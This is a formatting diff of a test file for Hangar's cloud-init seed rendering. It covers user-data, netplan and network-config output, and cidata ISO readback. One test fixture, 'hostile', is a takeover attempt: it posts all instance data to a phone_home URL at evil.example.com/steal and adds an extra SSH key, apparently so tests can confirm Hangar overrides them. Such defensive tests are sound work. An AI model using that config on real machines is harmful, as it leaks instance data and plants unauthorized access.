@@ -8,14 +8,17 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { parse } from 'yaml';
 import {
-  renderMetaData, renderNetworkConfig, renderSeed, renderUserData, renderVendorData,
-  type CloudInitMachine, type CloudInitSeed,
+  renderMetaData,
+  renderNetworkConfig,
+  renderSeed,
+  renderUserData,
+  renderVendorData,
+  type CloudInitMachine,
+  type CloudInitSeed,
 } from '../../domain/cloud-init.ts';
 import { HangarError } from '../../domain/errors.ts';
 import { listIso, readIsoFile, writeCidataIso } from '../../providers/cloud-init/cidata-iso.ts';
-import {
-  blkidProbe, cloudInitLoadYaml, extractIso, netConvert, nocloudFetch, validateUserData,
-} from '../support/cloud-init-tools.ts';
+import { blkidProbe, cloudInitLoadYaml, extractIso, netConvert, nocloudFetch, validateUserData } from '../support/cloud-init-tools.ts';
 
 const PHONE_HOME = 'http://127.0.0.1:8080/cloud-init/m-1/tok/phone-home';
 const opts = { phoneHomeUrl: PHONE_HOME };
@@ -27,30 +30,51 @@ const KEY_EXTRA = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExtraExtraExtraExtraExtr
 const dhcp: CloudInitMachine = { id: '2b7c0d1e-0000-4000-8000-000000000001', name: 'on', sshKeys: [KEY_A] };
 // IPv4 static with an all-digit MAC, which PyYAML reads as a base-60 integer if unquoted.
 const v4: CloudInitMachine = {
-  id: '2b7c0d1e-0000-4000-8000-000000000002', name: 'web-1', domain: 'lab.example', sshKeys: [KEY_A, KEY_B],
+  id: '2b7c0d1e-0000-4000-8000-000000000002',
+  name: 'web-1',
+  domain: 'lab.example',
+  sshKeys: [KEY_A, KEY_B],
   userDataExtras: {
     packages: ['curl', 'htop'],
     runcmd: [['systemctl', 'enable', '--now', 'ssh'], 'echo provisioned by hangar'],
     write_files: [{ path: '/etc/motd', content: 'managed by hangar\n', permissions: '0644' }],
   },
   network: {
-    mac: '52:54:00:12:34:56', address: '10.20.30.40', prefix: 24, version: 4, gateway: '10.20.30.1',
-    dns: ['10.20.30.2', '9.9.9.9'], searchDomains: ['lab.example', 'corp.example'],
+    mac: '52:54:00:12:34:56',
+    address: '10.20.30.40',
+    prefix: 24,
+    version: 4,
+    gateway: '10.20.30.1',
+    dns: ['10.20.30.2', '9.9.9.9'],
+    searchDomains: ['lab.example', 'corp.example'],
   },
 };
 // IPv6 static without a MAC, own login user.
 const v6: CloudInitMachine = {
-  id: '2b7c0d1e-0000-4000-8000-000000000003', name: 'db-6', domain: 'v6.lab.example', sshKeys: [KEY_B], defaultUser: 'ops',
+  id: '2b7c0d1e-0000-4000-8000-000000000003',
+  name: 'db-6',
+  domain: 'v6.lab.example',
+  sshKeys: [KEY_B],
+  defaultUser: 'ops',
   network: {
-    address: '2001:db8:10::5', prefix: 64, version: 6, gateway: '2001:db8:10::1',
-    dns: ['2001:db8:10::53'], searchDomains: ['v6.lab.example'],
+    address: '2001:db8:10::5',
+    prefix: 64,
+    version: 6,
+    gateway: '2001:db8:10::1',
+    dns: ['2001:db8:10::53'],
+    searchDomains: ['v6.lab.example'],
   },
 };
 // Extras that try to take over what Hangar owns, plus one harmless key.
 const hostile: CloudInitMachine = {
-  id: '2b7c0d1e-0000-4000-8000-000000000004', name: 'target', domain: 'lab.example', sshKeys: [KEY_A],
+  id: '2b7c0d1e-0000-4000-8000-000000000004',
+  name: 'target',
+  domain: 'lab.example',
+  sshKeys: [KEY_A],
   userDataExtras: {
-    hostname: 'evil', fqdn: 'evil.example.com', preserve_hostname: true,
+    hostname: 'evil',
+    fqdn: 'evil.example.com',
+    preserve_hostname: true,
     phone_home: { url: 'http://evil.example.com/steal', post: 'all', tries: 1 },
     users: ['default', { name: 'hangar', ssh_authorized_keys: [KEY_EXTRA], sudo: false }, { name: 'auditor', shell: '/bin/sh' }],
     ssh_authorized_keys: [KEY_EXTRA, KEY_A],
@@ -83,15 +107,21 @@ describe('user-data', () => {
   });
 
   it('carries hostname, fqdn, users, keys and phone_home as cloud-init reads them', async () => {
-    const doc = await cloudInitLoadYaml(userData(v4)) as Doc;
+    const doc = (await cloudInitLoadYaml(userData(v4))) as Doc;
     expect(doc).toMatchObject({
       hostname: 'web-1',
       fqdn: 'web-1.lab.example',
       preserve_hostname: false,
-      users: ['default', {
-        name: 'hangar', sudo: 'ALL=(ALL) NOPASSWD:ALL', shell: '/bin/bash', lock_passwd: true,
-        ssh_authorized_keys: [KEY_A, KEY_B],
-      }],
+      users: [
+        'default',
+        {
+          name: 'hangar',
+          sudo: 'ALL=(ALL) NOPASSWD:ALL',
+          shell: '/bin/bash',
+          lock_passwd: true,
+          ssh_authorized_keys: [KEY_A, KEY_B],
+        },
+      ],
       ssh_authorized_keys: [KEY_A, KEY_B],
       phone_home: { url: PHONE_HOME, post: ['instance_id', 'hostname', 'fqdn'], tries: 10 },
     });
@@ -99,10 +129,10 @@ describe('user-data', () => {
   });
 
   it('keeps YAML 1.1 look-alikes as strings (hostname "on") and omits fqdn without a domain', async () => {
-    const doc = await cloudInitLoadYaml(userData(dhcp)) as Doc;
+    const doc = (await cloudInitLoadYaml(userData(dhcp))) as Doc;
     expect(doc.hostname).toBe('on');
     expect(doc).not.toHaveProperty('fqdn');
-    const ops = await cloudInitLoadYaml(userData(v6)) as Doc;
+    const ops = (await cloudInitLoadYaml(userData(v6))) as Doc;
     expect((ops.users as Doc[])[1]).toMatchObject({ name: 'ops', ssh_authorized_keys: [KEY_B] });
   });
 
@@ -143,15 +173,28 @@ describe('user-data', () => {
   });
 
   it('rejects extras that are not plain JSON objects with validation_failed', () => {
-    class Custom { packages = ['x']; }
+    class Custom {
+      packages = ['x'];
+    }
     const bad: unknown[] = [
-      ['packages'], 'packages: [x]', 42, new Map([['packages', ['x']]]), new Custom(),
-      { runcmd: [() => 1] }, { packages: [Number.NaN] }, { users: 'root' }, { ssh_authorized_keys: [1] },
+      ['packages'],
+      'packages: [x]',
+      42,
+      new Map([['packages', ['x']]]),
+      new Custom(),
+      { runcmd: [() => 1] },
+      { packages: [Number.NaN] },
+      { users: 'root' },
+      { ssh_authorized_keys: [1] },
     ];
     for (const extras of bad) {
       const m = { ...v4, userDataExtras: extras as Record<string, unknown> };
       let caught: unknown;
-      try { userData(m); } catch (err) { caught = err; }
+      try {
+        userData(m);
+      } catch (err) {
+        caught = err;
+      }
       expect(caught).toBeInstanceOf(HangarError);
       expect((caught as HangarError).code).toBe('validation_failed');
     }
@@ -193,12 +236,13 @@ describe('network-config', () => {
 
   it('IPv4 with MAC: netplan and networkd output carry address, gateway, DNS, search and the MAC match', async () => {
     const text = renderNetworkConfig(v4);
-    const loaded = await cloudInitLoadYaml(text) as { ethernets: { eth0: { match: { macaddress: unknown } } } };
+    const loaded = (await cloudInitLoadYaml(text)) as { ethernets: { eth0: { match: { macaddress: unknown } } } };
     expect(loaded.ethernets.eth0.match.macaddress).toBe('52:54:00:12:34:56');
 
     const netplan = parse(mainFile(await netConvert(text, 'netplan'), '.yaml')) as { network: { ethernets: Record<string, Doc> } };
     expect(netplan.network.ethernets.eth0).toEqual({
-      match: { macaddress: '52:54:00:12:34:56' }, 'set-name': 'eth0',
+      match: { macaddress: '52:54:00:12:34:56' },
+      'set-name': 'eth0',
       addresses: ['10.20.30.40/24'],
       routes: [{ to: '0.0.0.0/0', via: '10.20.30.1' }],
       nameservers: { addresses: ['10.20.30.2', '9.9.9.9'], search: ['lab.example', 'corp.example'] },
@@ -219,7 +263,9 @@ describe('network-config', () => {
     const text = renderNetworkConfig(v6);
     const netplan = parse(mainFile(await netConvert(text, 'netplan'), '.yaml')) as { network: { ethernets: Record<string, Doc> } };
     expect(netplan.network.ethernets.eth0).toMatchObject({
-      match: { name: 'e*' }, addresses: ['2001:db8:10::5/64'], gateway6: '2001:db8:10::1',
+      match: { name: 'e*' },
+      addresses: ['2001:db8:10::5/64'],
+      gateway6: '2001:db8:10::1',
       nameservers: { addresses: ['2001:db8:10::53'], search: ['v6.lab.example'] },
     });
     expect(netplan.network.ethernets.eth0).not.toHaveProperty('set-name');
@@ -256,8 +302,12 @@ describe('network-config', () => {
 
 describe('cidata ISO', () => {
   let dir: string;
-  beforeAll(async () => { dir = await mkdtemp(join(tmpdir(), 'hangar-cidata-test-')); });
-  afterAll(async () => { await rm(dir, { recursive: true, force: true }); });
+  beforeAll(async () => {
+    dir = await mkdtemp(join(tmpdir(), 'hangar-cidata-test-'));
+  });
+  afterAll(async () => {
+    await rm(dir, { recursive: true, force: true });
+  });
 
   it('has volume id cidata, Joliet, and exactly the four seed files with their contents', async () => {
     const seed = renderSeed(v4, opts);
@@ -271,7 +321,7 @@ describe('cidata ISO', () => {
     expect(await readdir(dir)).toEqual(['seed.iso']);
   });
 
-  it('is read back by cloud-init\'s seed reader from the extracted image', async () => {
+  it("is read back by cloud-init's seed reader from the extracted image", async () => {
     const seed = renderSeed(v6, opts);
     const iso = join(dir, 'v6.iso');
     await writeCidataIso(iso, seed);
@@ -312,15 +362,23 @@ describe('nocloud_fetch.py over HTTP', () => {
       requested.push(req.url ?? '');
       const m = /^\/cloud-init\/([^/]+)\/tok\/([a-z-]+)$/.exec(req.url ?? '');
       const body = m ? seeds.get(m[1]!)?.[m[2] as keyof CloudInitSeed] : undefined;
-      if (body === undefined) { res.writeHead(404).end('not found'); return; }
+      if (body === undefined) {
+        res.writeHead(404).end('not found');
+        return;
+      }
       res.writeHead(200, { 'content-type': 'text/plain; charset=utf-8' }).end(body);
     });
     await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
     base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
   });
-  afterAll(async () => { await new Promise((resolve) => server.close(resolve)); });
+  afterAll(async () => {
+    await new Promise((resolve) => server.close(resolve));
+  });
 
-  it.each([['v4', v4], ['hostile', hostile]])('%s: cloud-init reads back the served meta-data, user-data and vendor-data', async (_name, m) => {
+  it.each([
+    ['v4', v4],
+    ['hostile', hostile],
+  ])('%s: cloud-init reads back the served meta-data, user-data and vendor-data', async (_name, m) => {
     const seed = seeds.get(m.id)!;
     const got = await nocloudFetch(`${base}/cloud-init/${m.id}/tok/`);
     expect(got['meta-data']).toEqual({ 'instance-id': `hangar-${m.id}`, 'local-hostname': m.name });
